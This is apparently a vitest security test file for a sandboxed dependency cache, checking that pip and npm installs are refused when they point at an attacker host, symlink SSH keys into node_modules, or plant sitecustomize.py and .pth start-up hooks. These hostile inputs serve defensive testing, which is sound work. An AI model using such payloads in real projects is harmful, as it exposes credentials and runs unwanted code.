import { existsSync } from 'node:fs';
import { mkdir, readdir, readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { homedir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { DependencyCache } from '../../src/adapters/deps/dependency-cache.js';
import { hostView } from '../../src/adapters/sandbox/host-view.js';
import {
  packageLock,
  startFakeNpmRegistry,
  type FakeNpmRegistry,
} from '../../src/offline/fake-npm-registry.js';
import { startFakePypi, type FakePypi } from '../../src/offline/fake-pypi.js';
import { proxiedGet } from '../helpers/sandbox.js';
import { useTempDirs } from '../helpers/tmp.js';
import { machineSandbox } from '../helpers/settings.js';

/**
 * A model writes the lock files and the manifests an install reads: installs run no code of its
 * choosing, reach only the configured registries, and what they write is served to checks only
 * once verified. The "attacker" here is a listener on 127.0.0.1 that must never hear from an
 * install, and files an install must never leave in the cache.
 */
const tempDir = useTempDirs();
const sandbox = await machineSandbox();

/** A tree holding `files` (path → content), as the cache reads trees. */
const tree = (files: Record<string, string>) => ({
  readFiles: (_treeish: string, paths: readonly string[]) =>
    Promise.resolve(paths.map((path) => ({ path, content: files[path] ?? null }))),
});

describe.skipIf(sandbox === undefined)('a hostile install', () => {
  let registry: FakeNpmRegistry;
  let pypi: FakePypi;
  let attacker: Server;
  let heard: string[];
  let attackerUrl: string;

  beforeEach(async () => {
    registry = await startFakeNpmRegistry();
    pypi = await startFakePypi();
    heard = [];
    attacker = createServer((req, res) => {
      heard.push(req.url ?? '');
      res.end('pwned\n');
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  });
  afterEach(async () => {
    await registry.close();
    await pypi.close();
    await new Promise((resolve) => attacker.close(resolve));
  });

  async function cache(at?: string) {
    const root = at ?? join(await tempDir(), 'maker-deps');
    return {
      root,
      cache: new DependencyCache({
        root,
        env: {
          PATH: process.env['PATH'],
          npm_config_registry: registry.url,
          PIP_INDEX_URL: pypi.indexUrl,
        },
        view: () => hostView(process.env['PATH'] ?? '', homedir()),
        sandbox: () => Promise.resolve(sandbox),
      }),
    };
  }

  const entries = async (root: string) =>
    (await readdir(root).catch(() => [])).filter((n) => /^[0-9a-f]{24}$/.test(n));

  it('refuses a requirements.txt that names a source archive or another index, before pip runs', async () => {
    const { root, cache: c } = await cache();
    for (const requirements of [
      `evil @ ${attackerUrl}/evil-1.0.tar.gz\n`,
      `--index-url ${attackerUrl}/simple\nevil\n`,
      `--no-binary :all:\nrequests\n`,
      `-e git+${attackerUrl}/evil.git#egg=evil\n`,
    ]) {
      const prepared = await c.prepare(tree({ 'requirements.txt': requirements }), 't', undefined);
      expect(prepared.ok).toBe(false);
      if (!prepared.ok)
        expect(prepared.output).toMatch(
          /refused, so nothing was installed[\s\S]*requirements\.txt line 1/,
        );
    }
    expect(heard).toEqual([]);
    expect(await entries(root)).toEqual([]);
  });

  it('refuses a package-lock.json whose packages come from anywhere but the registry', async () => {
    const { cache: c } = await cache();
    const dep = registry.publish('tiny', '1.0.0', { 'index.js': 'module.exports = 1;\n' });
    const lock = packageLock('app', [{ ...dep, tarball: `${attackerUrl}/tiny-1.0.0.tgz` }]);
    const prepared = await c.prepare(
      tree({ 'package.json': '{"name":"app","version":"1.0.0"}', 'package-lock.json': lock }),
      't',
      undefined,
    );
    expect(prepared.ok).toBe(false);
    if (!prepared.ok)
      expect(prepared.output).toContain(
        `node_modules/tiny is fetched from "${attackerUrl}/tiny-1.0.0.tgz"`,
      );
    expect(heard).toEqual([]);
    expect(registry.tarballFetches('tiny')).toBe(0);
  });

  it('reaches only the configured registries: anything else is refused by the proxy, and there is no other way out', async () => {
    const { cache: c } = await cache();
    const tries = [
      `${proxiedGet(`${registry.url}allowed`)} && echo registry-reached`,
      `${proxiedGet(`${attackerUrl}/through-the-proxy`)} || echo proxy-refused`,
      `node -e "require('http').get('${attackerUrl}/direct', () => process.exit(0)).on('error', (e) => { console.log('direct', e.code); process.exit(0) })"`,
    ].join('; ');
    const prepared = await c.prepare(tree({ 'requirements.txt': 'x\n' }), 't', `${tries}; exit 1`);
    expect(prepared.ok).toBe(false);
    if (!prepared.ok) {
      expect(prepared.output).toContain('registry-reached');
      expect(prepared.output).toContain('proxy-refused');
      expect(prepared.output).toMatch(/direct E(NETUNREACH|CONNREFUSED)/);
      expect(prepared.output).toMatch(
        /MAKER's proxy refused[\s\S]*127\.0\.0\.1:\d+: not a configured registry/,
      );
    }
    expect(heard).toEqual([]);
    expect(registry.requests.some((r) => r.path === '/allowed')).toBe(true);
  });

  it('plants a link to a secret, or an interpreter start-up hook: the entry is refused, removed, never served', async () => {
    const secrets = await tempDir();
    await mkdir(join(secrets, '.ssh'));
    await writeFile(join(secrets, '.ssh', 'id_rsa'), 'PRIVATE\n');
    const { root, cache: c } = await cache();
    const attacks = {
      'a link at the top, mounted into the checkout': `ln -s ${secrets}/.ssh node_modules`,
      'a link deep in the entry': `mkdir -p node_modules/x && ln -s ${secrets}/.ssh/id_rsa node_modules/x/key`,
      'sitecustomize.py on PYTHONPATH':
        'mkdir -p "$MAKER_DEPS/python" && echo "import os" > "$MAKER_DEPS/python/sitecustomize.py"',
      'a .pth that runs code in a virtualenv':
        'mkdir -p .venv/lib/python3.11/site-packages && echo "import os; os.system(1)" > .venv/lib/python3.11/site-packages/evil.pth',
      'a socket': `node -e "require('net').createServer().listen('s.sock', () => process.exit(0))"`,
    };
    for (const [what, install] of Object.entries(attacks)) {
      // Each its own key (the command keys the entry); the requirements are never read.
      const prepared = await c.prepare(tree({ 'requirements.txt': 'pkg==1.0\n' }), 't', install);
      expect(prepared.ok, what).toBe(false);
      if (!prepared.ok)
        expect(prepared.output, what).toMatch(/what it wrote is refused and was removed/);
    }
    expect(await entries(root)).toEqual([]);
  });

  it('installs a wheel that carries a sitecustomize.py: the default pip install is refused after it', async () => {
    pypi.publish('evil-wheel', '1.0', {
      'sitecustomize.py': 'import os\n',
      'evil_wheel/__init__.py': '',
    });
    const { root, cache: c } = await cache();
    const prepared = await c.prepare(
      tree({ 'requirements.txt': 'evil-wheel==1.0\n' }),
      't',
      undefined,
    );
    expect(prepared.ok).toBe(false);
    if (!prepared.ok)
      expect(prepared.output).toContain(
        '/deps/python/sitecustomize.py would run at every start of Python',
      );
    expect(pypi.wheelFetches('evil-wheel')).toBe(1);
    expect(await entries(root)).toEqual([]);
    expect(existsSync(join(root, 'python'))).toBe(false);
  });

  it('serves no entry an older MAKER wrote (never verified), installing again instead', async () => {
    const { root, cache: c } = await cache();
    const install = 'echo fresh > "$MAKER_DEPS/mark.txt"';
    const first = await c.prepare(tree({ 'requirements.txt': 'y\n' }), 't', install);
    expect(first.ok).toBe(true);
    const [key] = await entries(root);
    // An older version's marker: the same key, but not the version that verifies.
    await writeFile(join(root, key as string, '.maker-installed'), '{"command":"x"}\n');
    await writeFile(join(root, key as string, 'mark.txt'), 'poisoned\n');
    // Another process (a new cache on the same directory) finds the old marker and installs again.
    const { cache: again } = await cache(root);
    expect((await again.prepare(tree({ 'requirements.txt': 'y\n' }), 't', install)).ok).toBe(true);
    expect(await readFile(join(root, key as string, 'mark.txt'), 'utf8')).toBe('fresh\n');
  });
});
